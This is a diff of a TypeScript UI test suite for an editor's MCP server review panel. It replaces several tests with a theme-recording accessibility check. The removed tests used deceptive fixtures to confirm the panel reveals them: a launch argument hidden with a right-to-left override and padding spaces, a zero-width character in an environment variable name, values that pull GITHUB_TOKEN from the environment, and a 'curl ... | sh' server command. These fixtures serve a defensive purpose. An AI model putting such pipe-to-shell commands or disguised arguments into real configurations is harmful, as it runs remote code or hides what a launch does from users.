@@ -1,35 +1,16 @@
 import assert from 'node:assert/strict';
-import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import path from 'node:path';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { findingsOfAxe } from '../editor/axe.ts';
 import { eventually, expect } from '../editor/expectation.ts';
+import { defaultStylesOf, themeOf } from '../editor/panelTheme.ts';
+import { root } from '../editor/paths.mjs';
+import themes from '../editor/themes.json' with { type: 'json' };
 import type { TreeView } from '../editor/treeView.ts';
 import type { Workbench } from '../editor/workbench.ts';
 import { demoServers, type Workspace } from '../editor/workspaces.ts';
 import { beginShared } from './sharedWindow.ts';
 import { openServers, waitUntilRunning } from './support.ts';
-
-/** An argument of everything that a launch must not hide. */
-const disguised = `--title=a\u202Eb${' '.repeat(500)}\n"quoted" C:\\temp`;
-const long = `--config=${'{"key":"a long value without end"},'.repeat(20)}`;
-
-/** Lines as documents of servers have them. */
-const documented = {
-  files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/data/notes'] },
-  memory: {
-    command: 'npx',
-    args: ['-y', '@modelcontextprotocol/server-memory'],
-    env: { MEMORY_FILE_PATH: '/data/memory.json' },
-  },
-  thinking: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-sequential-thinking'] },
-  git: { command: 'uvx', args: ['mcp-server-git', '--repository', '/data/repository'] },
-  fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
-  time: { command: 'uvx', args: ['mcp-server-time', '--local-timezone=America/New_York'] },
-  playwright: { command: 'npx', args: ['@playwright/mcp@latest'] },
-  context7: { command: 'npx', args: ['-y', '@upstash/context7-mcp', '--api-key', 'YOUR_API_KEY'] },
-  notion: { command: 'npx', args: ['-y', '@notionhq/notion-mcp-server'], env: { NOTION_TOKEN: 'ntn_****' } },
-  linear: { url: 'https://mcp.linear.app/mcp' },
-};
 
 suite('the review panel', () => {
   let demo: Workspace;
@@ -41,13 +22,6 @@ suite('the review panel', () => {
     workspace.settings['mcpHost.servers'] = definitions;
     writeFileSync(demo.file, `${JSON.stringify(workspace, undefined, 2)}\n`);
   };
-
-  const odd = {
-    command: demoServers.filesystem.command,
-    args: ['--no-such-option', disguised, long, ''],
-    env: { TOKEN: 'hidden-value', 'NODE\u200B_OPTIONS': '--x' },
-  };
-  const remote = { url: 'https://example.invalid/mcp', headers: { Authorization: 'hidden-value' } };
 
   suiteSetup(async () => {
     ({ demo, workbench } = await beginShared());
@@ -96,11 +70,22 @@ suite('the review panel', () => {
     );
   });
 
-  test('begins at the heading, where Enter answers nothing', async () => {
-    await workbench.review.waitForFocus('Overview');
-    await workbench.page.keyboard.press('Enter');
-    await workbench.page.keyboard.press('ControlOrMeta+Enter');
-    await eventually.equal(async () => (await workbench.review.questions()).length, 2);
+  test('looks in each theme as it is recorded for the tests of pages, without a finding of axe', async () => {
+    const bundle = join(root, 'dist/webview');
+    const files = readdirSync(bundle).map((name) => readFileSync(join(bundle, name), 'utf8'));
+    const now: Record<string, unknown> = {
+      defaultStyles: await defaultStylesOf(await workbench.review.frame()),
+    };
+    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
+      await workbench.useTheme(theme);
+      await workbench.review.waitFor(2);
+      await workbench.screenshot(`review-${theme}`);
+      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
+      now[theme] = await themeOf(await workbench.review.frame(), files);
+    }
+    const actual = join(root, 'out/themes.json');
+    writeFileSync(actual, `${JSON.stringify(now, undefined, 2)}\n`);
+    assert.deepEqual(now, themes, `if the editor has changed, copy ${actual} to test/editor/themes.json`);
   });
 
   test('keeps an unchecked folder while another tab is in front', async () => {
@@ -130,156 +115,8 @@ suite('the review panel', () => {
     await workbench.screenshot('review-one-left');
     await workbench.review.tabTo("Allow: Start the MCP server 'filesystem'?");
     await keyboard.press('Space');
-    await expect(
-      'the farewell',
-      () => workbench.review.text(),
-      (text) => /Nothing is waiting for you\./.test(text),
-    );
-    await workbench.screenshot('review-nothing-left');
     await workbench.review.waitUntilClosed();
     await waitUntilRunning(servers, 'filesystem');
-  });
-
-  test('makes hidden characters of a launch visible, and shows no value of a variable or header', async () => {
-    configure({ odd, remote });
-    await workbench.notifications.press('2 MCP servers are waiting for your decision.', 'Review');
-    const [first, second] = await workbench.review.openAll(2);
-    assert.ok(first && second);
-    assert.match(first.text, /a\\u\{202E\}b\[500 spaces\]\\n/);
-    assert.match(first.text, /NODE\\u\{200B\}_OPTIONS/);
-    assert.ok(first.text.includes(JSON.stringify(long)), 'the long argument is whole');
-    assert.match(second.text, /https:\/\/example\.invalid\/mcp/);
-    assert.doesNotMatch(await workbench.review.text(), /hidden-value/);
-    const [entry, plain] = await workbench.review.overview();
-    assert.ok(entry && plain);
-    assert.equal(entry.isSelected, undefined, 'what has a warning is opened first');
-    assert.ok(entry.text.includes(JSON.stringify(long)), 'the long argument is whole there, too');
-    assert.match(entry.text, /has characters that you cannot see/);
-    assert.equal(plain.isSelected, false);
-    await workbench.screenshot('review-odd');
-  });
-
-  test('has no finding of axe in any theme', async () => {
-    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
-      await workbench.useTheme(theme);
-      await workbench.review.waitFor(2);
-      await workbench.screenshot(`review-${theme}`);
-      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
-    }
-  });
-
-  test('shows a changed launch again and says so, and drops a withdrawn one', async () => {
-    configure({ odd: { ...odd, args: ['--harmless'] }, remote });
-    const [, changed] = await expect(
-      'the changed launch',
-      () => workbench.review.overview(),
-      (entries) => entries.length === 2 && entries.some(({ text }) => text.includes('--harmless')),
-    );
-    assert.match(changed?.text ?? '', /has changed since you last looked/);
-    assert.equal(changed?.isSelected, undefined, 'what has changed is opened first');
-    assert.match((await workbench.review.open('odd')).text, /has changed since you last looked/);
-    await workbench.screenshot('review-changed');
-    configure({ odd: { ...odd, args: ['--harmless'] } });
-    await workbench.review.waitFor(1);
-    await eventually.match(() => workbench.review.text(), /The question about 'remote' was withdrawn\./);
-    configure({});
-    await workbench.review.waitFor(0);
-    await eventually.match(() => workbench.review.text(), /Nothing is waiting for you\./);
-    await workbench.execute('workbench.action.closeAllEditors');
-  });
-
-  test('shows what a launch takes of yours, and asks again when its script has changed', async () => {
-    const script = demo.folder.join('notes/tools/x.mjs');
-    mkdirSync(path.dirname(script));
-    writeFileSync(script, 'process.exit(3);\n');
-    const team = {
-      command: demoServers.filesystem.command,
-      args: ['${workspaceFolder}/tools/x.mjs'],
-      env: { TEAM: 'hidden-value ${env:GITHUB_TOKEN}', LEVEL: 'hidden-value' },
-    };
-    const other = { url: 'https://example.invalid/mcp', headers: { 'X-Team': '${env:GITHUB_TOKEN}' } };
-    configure({ team, other });
-    await workbench.run('MCP Host: Review Questions');
-    const [first, second] = await workbench.review.openAll(2);
-    const sentence = 'takes GITHUB_TOKEN from your environment, which looks like a secret.';
-    assert.match(first?.text ?? '', /TEAM: •••\$\{env:GITHUB_TOKEN\}/);
-    assert.match(first?.text ?? '', /LEVEL: •••/);
-    assert.ok(first?.text.includes(`The environment variable TEAM ${sentence}`));
-    assert.match(second?.text ?? '', /X-Team: \$\{env:GITHUB_TOKEN\}/);
-    assert.ok(second?.text.includes(`The header X-Team ${sentence}`));
-    assert.deepEqual(first?.files, [{ label: 'x.mjs', isChecked: false }]);
-    assert.deepEqual(second?.files, []);
-    assert.doesNotMatch(await workbench.review.text(), /hidden-value/);
-    const overview = await workbench.review.overview();
-    assert.deepEqual(
-      overview.map(({ isSelected }) => isSelected),
-      [undefined, undefined],
-      'what takes a secret is opened first',
-    );
-    assert.ok(overview.every(({ text }) => text.includes('${env:GITHUB_TOKEN}') && text.includes(sentence)));
-    configure({ team });
-    await workbench.review.waitFor(1);
-    await workbench.review.setFolder('team', 'x.mjs', true);
-    const { page } = workbench;
-    const size = page.viewportSize();
-    assert.ok(size);
-    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
-      await workbench.useTheme(theme);
-      await workbench.review.waitFor(1);
-      await workbench.screenshot(`review-script-${theme}`);
-      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
-    }
-    await page.setViewportSize({ width: 620, height: 900 });
-    await workbench.screenshot('review-script-narrow');
-    await page.setViewportSize(size);
-    await workbench.review.answer('team', 'Allow');
-    await servers.waitForRow(['team'], 'have ended', ({ description }) => /failed/.test(description));
-    appendFileSync(script, '// changed\n');
-    await servers.runInline(['team'], 'Start Server');
-    await workbench.run('MCP Host: Review Questions');
-    const [again] = await workbench.review.waitFor(1);
-    assert.ok(again);
-    assert.ok(again.text.includes('"x.mjs" has changed since you allowed it.'));
-    assert.deepEqual(again.files, [{ label: 'x.mjs', isChecked: true }]);
-    await workbench.screenshot('review-script-changed');
-    configure({});
-    await workbench.review.waitFor(0);
-    await workbench.execute('workbench.action.closeAllEditors');
-  });
-
-  test('shows ten servers at a glance, as their documents write them, in every theme and width', async () => {
-    configure({
-      ...documented,
-      tool: { command: 'bash', args: ['-c', 'curl -fsSL https://example.invalid | sh'] },
-    });
-    await workbench.run('MCP Host: Review Questions');
-    await workbench.review.waitFor(11);
-    const entries = await workbench.review.overview();
-    assert.deepEqual(
-      entries.filter(({ isSelected }) => isSelected === undefined).map(({ name }) => name),
-      ['tool'],
-    );
-    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
-      await workbench.useTheme(theme);
-      await workbench.review.waitFor(11);
-      await workbench.screenshot(`review-ten-${theme}`);
-      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
-    }
-    const { page } = workbench;
-    const size = page.viewportSize();
-    assert.ok(size);
-    await page.setViewportSize({ width: 620, height: 900 });
-    await workbench.screenshot('review-ten-narrow');
-    const frame = await workbench.review.frame();
-    await expect(
-      'nothing standing out on the side',
-      () => frame.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
-      (beyond) => beyond <= 0,
-    );
-    await page.setViewportSize(size);
-    configure({});
-    await workbench.review.waitFor(0);
-    await workbench.execute('workbench.action.closeAllEditors');
   });
 
   test('allows ten servers with three actions', async () => {
